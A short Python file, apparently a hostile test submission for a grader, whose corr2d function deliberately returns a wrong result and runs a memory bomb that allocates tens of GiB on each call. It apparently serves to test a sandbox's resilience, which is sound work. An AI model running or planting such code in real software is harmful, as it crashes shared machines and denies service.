# Hostile: tries to take all the machine's memory. The first call touches 1 GiB blocks until
# the allocator fails (tens of GiB asked for), every call then asks for 64 GiB at once.
import torch

_first = [True]
GiB = 1024**3


def _bomb():
    blocks = []
    for _ in range(64):
        blocks.append(torch.ones(GiB // 4, dtype=torch.float32))  # ones: every page is touched
    return blocks


def corr2d(X, K):
    X.add_(1.0)  # wrong on purpose
    if _first[0]:
        _first[0] = False
        _bomb()
    huge = torch.empty(64 * GiB, dtype=torch.uint8)
    huge.fill_(1)
    return torch.ones(X.shape[0] + 1, X.shape[1])
